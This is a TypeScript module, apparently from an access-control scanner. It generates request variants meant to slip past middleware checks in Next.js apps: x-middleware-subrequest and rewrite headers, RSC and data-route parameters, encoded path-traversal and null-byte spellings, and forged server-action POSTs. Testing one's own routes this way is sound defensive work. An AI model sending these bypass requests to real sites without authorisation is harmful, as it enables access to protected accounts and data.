import type { Asked } from './raw-request'

const elsewhere = '/api/me/export'

/** Ways round a check that stands in front of the pages: those of past advisories of the framework, and those of servers before it. */
const headers: readonly Readonly<Record<string, string>>[] = [
  { rsc: '1' },
  { rsc: '1', 'next-router-prefetch': '1', 'next-router-segment-prefetch': '/_tree' },
  ...['middleware', 'src/middleware', 'proxy'].map((name) => ({ 'x-middleware-subrequest': Array<string>(5).fill(name).join(':') })),
  { 'x-nextjs-data': '1' },
  { 'x-matched-path': elsewhere, 'x-invoke-path': elsewhere, 'x-middleware-rewrite': elsewhere, 'x-original-url': elsewhere, 'x-rewrite-url': elsewhere, 'x-now-route-matches': '1=kk&nxtPlocale=kk', 'x-prerender-revalidate': '1' },
]

const queries = ['_rsc=abc', 'nxtPlocale=ru&nxtPid=1&nxtPrest=a&nxtPunknown=a&nxtIlocale=ru&__nextDataReq=1&__nextLocale=ru']

/** A path without a query, as nobody writes it: each leads to the same, to another address of it, or nowhere. */
const paths: readonly ((path: string, build: string) => string)[] = [
  (path) => `${path}.rsc`,
  (path) => `${path}/index.rsc`,
  (path) => `${path}.segments/_tree.segment.rsc`,
  (path) => `${path}/index.segments/_tree.segment.rsc`,
  (path, build) => `/_next/data/${build}${path}.json`,
  (path) => `${path}/`,
  (path) => path.toUpperCase(),
  (path) => `/${path}`,
  (path) => path.replace(/\/(?=[^/]+$)/, '//'),
  (path) => `/x/%2e%2e${path}`,
  (path) => `/_next/static/%2e%2e/%2e%2e${path}`,
  (path) => `/_next/static/..%2f..${path}`,
  (path) => path.replace(/\/(?=[^/]+$)/, '/%2e/'),
  (path) => path.replace(/\/(?=[^/]+$)/, '%2f'),
  (path) => path.replace(/\/(?=[^/]+$)/, '\\'),
  (path) => path.replace(/^\/(\w)/, (_, first: string) => `/%${first.charCodeAt(0).toString(16)}`),
  (path) => `${path}%00`,
  (path) => path.replace(/^\/(?:kk|ru|en)(?=\/|$)/, '') || '/',
  (path) => `/ru${path}`,
]

/** The plain address first, then each odd spelling of it once. */
export function spellingsOf(address: string, build: string): readonly Asked[] {
  const [path = '', query] = address.split('?')
  const withQuery = (spelt: string, more: readonly string[] = []) => [spelt, [...(query === undefined ? [] : [query]), ...more].join('&')].filter((part) => part !== '').join('?')
  const odd = new Set(paths.map((spell) => withQuery(spell(path, build))).filter((spelt) => spelt !== address))
  return [
    { path: address },
    { path: address, method: 'HEAD' },
    ...headers.map((each) => ({ path: address, headers: each })),
    ...queries.map((each) => ({ path: withQuery(path, [each]) })),
    { path: withQuery(path, ['nxtPlocale=ru']), headers: { rsc: '1', 'x-nextjs-data': '1' } },
    ...[...odd].map((spelt) => ({ path: spelt })),
  ]
}

/** An action is called by a POST to a page, with its id in a header. */
export function actionCallsOf(path: string): readonly Asked[] {
  const id = '7f'.repeat(21)
  return [
    { path, method: 'POST', headers: { 'next-action': id, 'content-type': 'text/plain;charset=UTF-8' }, body: '[]' },
    { path, method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=x' }, body: `--x\r\nContent-Disposition: form-data; name="$ACTION_ID_${id}"\r\n\r\n\r\n--x--\r\n` },
  ]
}
